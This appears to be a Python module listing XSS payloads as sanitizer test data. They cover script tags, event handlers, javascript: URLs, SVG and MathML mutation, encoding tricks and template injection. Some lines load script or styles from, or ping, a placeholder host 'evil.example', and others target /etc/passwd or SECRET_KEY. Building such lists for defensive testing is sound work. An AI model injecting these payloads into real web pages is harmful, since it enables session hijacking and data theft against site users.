"""Ways to smuggle script into HTML: the classic lists, mutation, foreign content, encodings, CSS, clobbering."""

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script
>alert(1)</script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src=/x onerror=alert(1)>
<img src="/x"onerror="alert(1)">
<img/src=/x/onerror=alert(1)>
<img src=/x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img srcset="https://evil.example/x 1x" src=/x>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1)</script>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">
<svg><style><img src=x onerror=alert(1)></style>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><p onclick=alert(1)>x</foreignObject>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><p><style><!--</style><img src=x onerror=alert(1)>-->
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<title><img title="</title><img src onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<style><img src="</style><img src=x onerror=alert(1)//">
<plaintext><img src=x onerror=alert(1)>
<select><template><img src=x onerror=alert(1)></template></select>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x01;javascript:alert(1)">x</a>
<a href="javascript&#0;:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="/x" onmouseover="alert(1)">x</a>
<a href="/x" ping="https://evil.example/">x</a>
<a href="/x" target=_blank rel=opener>x</a>
<a name="cookie" id="cookie" href="/x">x</a>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="position:fixed;inset:0">x</p>
<div style="background-image:url(https://evil.example/x)">x</div>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="javascript:alert(1)//">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">
<object data="javascript:alert(1)"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<applet code="x"></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<isindex type=image src=1 onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html onmouseover=alert(1)>x
<frameset onload=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</table>
<td background="javascript:alert(1)">x
<bgsound src="javascript:alert(1)">
<dialog open onclose=alert(1)>x</dialog>
<div popover onbeforetoggle=alert(1)>x</div>
<button popovertarget=x onclick=alert(1)>x</button>
<x onclick=alert(1)>x</x>
<p/onclick=alert(1)>x
<p onclick
=alert(1)>x
<!--><img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script>
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<h2 id="__proto__">x</h2>
<h2 id='a" onclick="alert(1)'>x</h2>
<h2 id="ui_content">x</h2>
<h2><img src=x onerror=alert(1)></h2>
<span data-mention='sam" onclick="alert(1)'>x</span>
<span data-mention="../../admin">x</span>
<code class='language-x" onclick="alert(1)'>x</code>
<code class="language-x button button--primary">x</code>
<aside class="dialog" data-kind='tip" onclick="1'>x</aside>
<ol start="1 onclick=alert(1)"><li>x</ol>
<td colspan="1&quot; onclick=&quot;alert(1)">x</td>
<img src="/x&quot; onerror=&quot;alert(1)">
<img src="/x" alt="&quot; onerror=&quot;alert(1)">
<img src="/x" alt="<h2>" ><h2>x</h2>
<p hx-get="/x" hx-trigger="load" data-hx-get="/x">x</p>
<a href="/x" hx-on:click="alert(1)">x</a>
<p data-behaviour="open-dialog" data-dialog="x" data-key="/">x</p>
{{ settings.SECRET_KEY }}{% load log %}{% debug %}
<p>{{constructor.constructor('alert(1)')()}}</p>
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
<b <script>alert(1)</script>
<a href="/x"<img src=x onerror=alert(1)>
<p title="<a href='</p><script>alert(1)</script>'>">x
'''.strip("\n").split("\n")
#: Some vectors are of two lines.
VECTORS += [
    "<script\n>alert(1)</script>",
    "<p onclick\n=alert(1)>x",
    "<img src=/x\x00onerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
]
VECTORS += [
    "<s\x00cript>alert(1)</script>",
    "<a href='\x0bjavascript:alert(1)'>x</a>",
    "<img src='/x'\x0conerror='alert(1)'>",
]
